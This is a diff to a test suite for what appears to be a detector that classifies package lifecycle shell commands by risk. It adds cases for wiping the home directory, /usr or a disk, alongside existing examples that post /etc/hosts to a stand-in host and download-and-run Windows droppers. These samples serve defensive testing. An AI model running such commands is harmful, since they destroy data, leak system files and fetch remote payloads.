@@ -40,6 +40,13 @@ describe('lifecycle command lines read as shell', () => {
     expect(kinds('wget --post-file /etc/hosts http://h.invalid')).toContain('exfiltration')
   })
 
+  it('the root, a system directory, the home directory or a disk destroyed wholesale', () => {
+    expect(kinds('rm -rf ~/')).toEqual(['destructive'])
+    expect(kinds('sudo rm -fr /usr')).toEqual(['destructive'])
+    expect(kinds('sh -c "dd if=/dev/urandom of=/dev/sda"')).toEqual(['destructive'])
+    expect(kinds('rm -rf build ~/.cache/pkg /tmp/x')).toEqual([])
+  })
+
   it('Windows download-and-run tools and policy bypass', () => {
     expect(kinds('bitsadmin /transfer j http://h.invalid/a.exe %TEMP%\\a.exe')).toContain('windows-dropper')
     expect(kinds('mshta http://h.invalid/x.hta')).toContain('windows-dropper')
